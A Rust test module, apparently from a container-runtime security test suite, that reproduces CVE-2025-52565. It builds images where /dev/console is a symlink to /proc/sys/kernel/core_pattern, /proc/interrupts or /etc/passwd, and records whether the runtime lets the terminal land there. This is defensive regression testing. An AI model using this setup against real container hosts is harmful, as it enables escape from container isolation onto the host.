//! A terminal is put on `/dev/console` and nowhere else (CVE-2025-52565).

use std::fs;
use std::os::unix::fs::symlink;

use crate::bundle::pod_container;
use crate::escaped;
use crate::support::{Pod, base, output};

pub fn attack() {
    for target in ["/proc/interrupts", "/proc/sys/kernel/core_pattern", "/etc/passwd"] {
        with_a_link_to(target);
    }
}

/// An image without a file system on `/dev`, where `/dev/console` is a link.
fn with_a_link_to(target: &str) {
    let mut pod = Pod::new("console");
    let mut container = pod_container(&pod, &["read", "/proc/self/mountinfo", "/etc/passwd"]);
    let image = pod.dir.join("image");
    for dir in ["dev/pts", "etc", "proc", "sys"] {
        fs::create_dir_all(image.join(dir)).unwrap();
    }
    fs::write(image.join("etc/passwd"), "image\n").unwrap();
    symlink(target, image.join("dev/console")).unwrap();
    container.overlay.as_mut().unwrap().lower = vec![image, base().join("rootfs")];
    let mut mounts = container.spec.mounts().clone().unwrap();
    mounts.retain(|mount| mount.destination() != std::path::Path::new("/dev"));
    container.spec.set_mounts(Some(mounts));
    let mut process = container.spec.process().clone().unwrap();
    process.set_terminal(Some(true));
    container.spec.set_process(Some(process));
    match pod.run(&container) {
        Ok(_) => {
            pod.wait(&container.id);
            escaped!("the terminal is on {target}: {}", output(&container.log_path));
        }
        Err(failure) => assert!(failure.message.contains("console"), "{failure}"),
    }
    pod.stop();
}
